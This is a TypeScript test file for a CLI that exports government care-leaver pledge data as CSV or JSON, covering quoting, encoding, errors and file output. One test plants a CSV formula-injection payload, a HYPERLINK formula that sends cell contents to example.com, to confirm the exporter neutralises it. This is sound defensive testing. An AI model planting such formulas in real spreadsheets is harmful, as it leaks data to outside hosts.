// `covenant export`: one row a pledge as RFC 4180 CSV (for spreadsheets) or JSON (for open data).
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { readCsv } from './helpers/csv.js';
import { run } from './helpers/run.js';
import { copyToTemp, removeTemp } from './helpers/temp-data.js';

const years = fileURLToPath(new URL('./fixtures/years/', import.meta.url));
const data = ['--data', 'test/fixtures/years'];


const HEADER = ['department', 'department_name', 'pledge', 'theme', 'outcomes', 'status', 'commitment', 'progress', 'next_steps'];

describe('covenant export --format csv', () => {
  let csv: string;
  let rows: string[][];
  beforeAll(async () => {
    const result = await run(['export', '2021', '--format', 'csv', ...data]);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    csv = result.stdout;
    rows = readCsv(csv.replace(/^\ufeff/, ''));
  });

  test('starts with a UTF-8 byte order mark, for Excel', () => {
    expect(csv.startsWith('\ufeffdepartment,')).toBe(true);
  });

  test('has the fixed columns, then one column a metric id, sorted', () => {
    expect(rows[0]).toEqual([...HEADER, 'metric:advisers-trained', 'metric:care-leavers-identified', 'metric:offices-live', 'metric:pilots', 'metric:satisfaction']);
  });

  test('one row a pledge, departments by id, pledges in file order', () => {
    expect(rows.slice(1).map((r) => `${r[0]}/${r[2]}`)).toEqual([
      'dhsc/health-passport', 'dhsc/mental-health-pathway',
      'dwp/care-leaver-marker', 'dwp/work-programme-early-access', 'dwp/budgeting-support', 'dwp/bursary', 'dwp/new-pledge',
      'mhclg/staying-close',
    ]);
    expect(rows.every((r) => r.length === rows[0]!.length)).toBe(true);
  });

  test('quotes fields with commas, quotes and line breaks, doubling the quotes; rows end in CRLF', () => {
    const marker = rows.find((r) => r[2] === 'care-leaver-marker')!;
    expect(marker[7]).toBe('Since October 2020, 3,162 care leavers have been identified, up from 2,761; advisers say "it works", and offices use it daily.\n\nA second paragraph, with a list:\n\n- one\n- two');
    expect(csv).toContain('"Since October 2020, 3,162 care leavers have been identified, up from 2,761; advisers say ""it works"", and offices use it daily.\n\nA second paragraph');
    expect(csv).toContain(',"Ministry of Housing, Communities and Local Government",');
    expect(csv).toContain(',"MHCLG will fund ""Staying Close"" pilots, with local authorities.",');
    // A line break alone (no comma or quote to trigger quoting) must be quoted too.
    expect(rows.find((r) => r[2] === 'mental-health-pathway')![7]).toBe('Withdrawn: the pathway is now part of the NHS plan.\n\nSee the plan.');
    expect(csv).toContain(',"Withdrawn: the pathway is now part of the NHS plan.\n\nSee the plan.",');
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  test('keeps text as written, less the final line break of a YAML block; joins outcomes with ;', () => {
    const marker = rows.find((r) => r[2] === 'care-leaver-marker')!;
    expect(marker.slice(0, 7)).toEqual([
      'dwp', 'Department for Work and Pensions', 'care-leaver-marker', 'employment', 'education-employment-training', 'met',
      'DWP will introduce a \'marker\' to routinely identify care leavers on its information database.',
    ]);
    expect(marker[8]).toBe('Keep the marker running.');
    expect(marker.slice(9)).toEqual(['17', '3162', '120', '', '72.5']);
    const bursary = rows.find((r) => r[2] === 'bursary')!;
    expect(bursary[6]).toBe('DWP will pay a bursary of £1,000 | a year to each care leaver in <b>training</b>.');
    expect(bursary[4]).toBe('');
    expect(bursary[8]).toBe('');
  });
});

describe('covenant export --format json', () => {
  test('an array of objects, metrics as an object, absent text as null', async () => {
    const result = await run(['export', '2021', '--format', 'json', ...data]);
    expect(result.code).toBe(0);
    const rows = JSON.parse(result.stdout) as Record<string, unknown>[];
    expect(rows).toHaveLength(8);
    expect(rows[2]).toEqual({
      department: 'dwp',
      department_name: 'Department for Work and Pensions',
      pledge: 'care-leaver-marker',
      theme: 'employment',
      outcomes: ['education-employment-training'],
      status: 'met',
      commitment: 'DWP will introduce a \'marker\' to routinely identify care leavers on its information database.',
      progress: expect.stringContaining('A second paragraph') as unknown,
      next_steps: 'Keep the marker running.',
      metrics: { 'care-leavers-identified': 3162, 'advisers-trained': 17, 'offices-live': 120, satisfaction: 72.5 },
      metric_labels: expect.objectContaining({ 'care-leavers-identified': { label: 'Care leavers identified by the marker' } }) as unknown,
    });
    // Each figure's label, and its unit when it has one: what a number means travels with it.
    expect(Object.values((rows[2] as { metric_labels: Record<string, { unit?: string }> }).metric_labels).some((m) => m.unit === '%')).toBe(true);
    expect(rows[6]).toMatchObject({ pledge: 'new-pledge', progress: null, next_steps: null, metrics: {}, metric_labels: {}, outcomes: [] });
    expect(result.stdout.startsWith('[\n  {\n    "department": "dhsc",')).toBe(true);
  });
});

describe('covenant export, writing and refusing', () => {
  let dir: string;
  beforeEach(() => {
    dir = copyToTemp(years);
  });
  afterEach(() => removeTemp(dir));

  test('-o FILE writes the file whole and prints nothing', async () => {
    const result = await run(['export', '2021', '--format', 'csv', '-o', 'pledges.csv'], { cwd: dir });
    expect(result.code).toBe(0);
    expect(result.stdout).toBe('');
    const fromStdout = await run(['export', '2021', '--format', 'csv'], { cwd: dir });
    expect(readFileSync(join(dir, 'pledges.csv'), 'utf8')).toBe(fromStdout.stdout);
    expect(readdirSync(dir).sort()).toEqual(['data', 'pledges.csv']);
  });

  test('a folder that does not exist is a plain message, exit 70, no stack trace', async () => {
    const result = await run(['export', '2021', '--format', 'json', '-o', 'missing/pledges.json'], { cwd: dir });
    expect(result.code).toBe(70);
    expect(result.stderr).toContain('could not write missing/pledges.json (ENOENT)');
    expect(result.stderr).not.toMatch(/^\s+at /m);
  });

  test('invalid data exits 1 with the problems, and writes nothing', async () => {
    const file = join(dir, 'data/2021/departments/dwp.yaml');
    writeFileSync(file, readFileSync(file, 'utf8').replace('value: 3162', 'value: "3,162"'));
    const result = await run(['export', '2021', '--format', 'csv', '-o', 'pledges.csv'], { cwd: dir });
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/data\/2021\/departments\/dwp\.yaml:\d+:\d+ {2}error/);
    expect(readdirSync(dir)).toEqual(['data']);
  });

  test('CSV text that a spreadsheet would run as a formula starts with an apostrophe; figures and JSON stay as written', async () => {
    const file = join(dir, 'data/2021/departments/dwp.yaml');
    writeFileSync(file, readFileSync(file, 'utf8')
      .replace('name: Department for Work and Pensions', 'name: \'=HYPERLINK("http://example.com/?"&A1,"Click")\'')
      .replace('Keep the marker running.', '- keep the marker running\n      - @ each office')
      .replace('value: 3162', 'value: -5')
      .replace("DWP will introduce a 'marker'", "+DWP will introduce a 'marker'"));
    const result = await run(['export', '2021', '--format', 'csv'], { cwd: dir });
    expect(result.stderr).toBe('');
    const marker = readCsv(result.stdout.replace(/^\ufeff/, '')).find((r) => r[2] === 'care-leaver-marker')!;
    expect(marker[1]).toBe('\'=HYPERLINK("http://example.com/?"&A1,"Click")');
    expect(marker[6]).toBe("'+DWP will introduce a 'marker' to routinely identify care leavers on its information database.");
    expect(marker[7]).toMatch(/^Since October 2020/);
    expect(marker[8]).toBe("'- keep the marker running\n- @ each office");
    expect(marker[10]).toBe('-5');
    const json = JSON.parse((await run(['export', '2021', '--format', 'json'], { cwd: dir })).stdout) as { pledge: string; department_name: string }[];
    expect(json.find((r) => r.pledge === 'care-leaver-marker')!.department_name).toBe('=HYPERLINK("http://example.com/?"&A1,"Click")');
  });

  test('--format is checked (csv when not given); a missing year exits 1', async () => {
    expect((await run(['export', '2021'], { cwd: dir })).code).toBe(0);
    expect((await run(['export', '2021', '--format', 'xlsx'], { cwd: dir })).code).toBe(2);
    const missing = await run(['export', '2030', '--format', 'csv'], { cwd: dir });
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain('years in data: 2020, 2021');
  });
});
